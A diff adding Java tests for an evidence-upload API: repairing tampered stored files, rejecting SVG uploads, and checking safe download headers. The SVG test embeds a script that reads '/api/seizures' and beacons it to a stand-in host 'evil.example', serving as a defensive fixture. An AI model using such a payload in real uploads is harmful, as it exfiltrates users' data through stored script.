@@ -176,6 +176,58 @@ class EvidenceResourceTest {
     }
 
     @Test
+    void shouldRepairDamagedBytesWithAnIdenticalUploadAndReportTheDamageInTheCustodyVerification() throws Exception {
+        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
+        byte[] text = ("Inspection notes " + UUID.randomUUID()).getBytes();
+        String location = upload(seizure, text).then().statusCode(201).extract().header("Location");
+        String hash = sha256(text);
+        Files.writeString(STORE.resolve(hash.substring(0, 2)).resolve(hash.substring(2, 4)).resolve(hash), "tampered");
+
+        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/custody/verification").then()
+                .body("intact", equalTo(false)).body("problems", hasItem(containsString("no longer match their SHA-256")));
+
+        upload(seizure, text).then().statusCode(201);
+
+        byte[] served = given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(location).then().statusCode(200)
+                .extract().asByteArray();
+        assertThat(served).isEqualTo(text);
+        as(PANEL_EXPERT).get("/api/seizures/" + seizure + "/custody/verification").then().body("intact", equalTo(true));
+    }
+
+    @Test
+    void shouldRefuseAnSvgForItCanCarryScript() {
+        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
+        byte[] svg = """
+                <?xml version="1.0"?>
+                <svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">
+                  <script>fetch('/api/seizures').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script>
+                  <rect width="10" height="10"/>
+                </svg>""".getBytes();
+
+        upload(seizure, svg).then().statusCode(415).contentType(PROBLEM_JSON)
+                .body("errors.field", hasItem("file")).body("detail", containsString("image/svg+xml"));
+        assertThat(evidenceOf(seizure)).isEmpty();
+    }
+
+    @Test
+    void shouldServePhotosInlineAndEveryOtherFileAsADownloadNoBrowserRunsOrSniffs() throws Exception {
+        String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
+        String photo = upload(seizure, jpeg(null)).then().statusCode(201).extract().header("Location");
+        String pdf = as(MISSION_OFFICER).contentType("application/octet-stream").body(Files.readAllBytes(PDF))
+                .queryParam("fileName", "rapport d'inspection.pdf").post("/api/seizures/" + seizure + "/evidence")
+                .then().statusCode(201).extract().header("Location");
+
+        given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(photo).then().statusCode(200)
+                .header("Content-Disposition", startsWith("inline"))
+                .header("X-Content-Type-Options", equalTo("nosniff"))
+                .header("Content-Security-Policy", containsString("sandbox"));
+        given().auth().oauth2(Tokens.accessToken(PANEL_EXPERT)).get(pdf).then().statusCode(200)
+                .header("Content-Disposition", equalTo("attachment; filename*=UTF-8''rapport%20d%27inspection.pdf"))
+                .header("X-Content-Type-Options", equalTo("nosniff"))
+                .header("Content-Security-Policy", equalTo("sandbox; default-src 'none'"));
+    }
+
+    @Test
     void shouldLetOnlyTheRecordsReadersAndHoldersAtTheEvidence() throws Exception {
         String seizure = record(MISSION_OFFICER, seizureWithItems(newReference(), "CAF"));
         upload(seizure, jpeg(null)).then().statusCode(201);
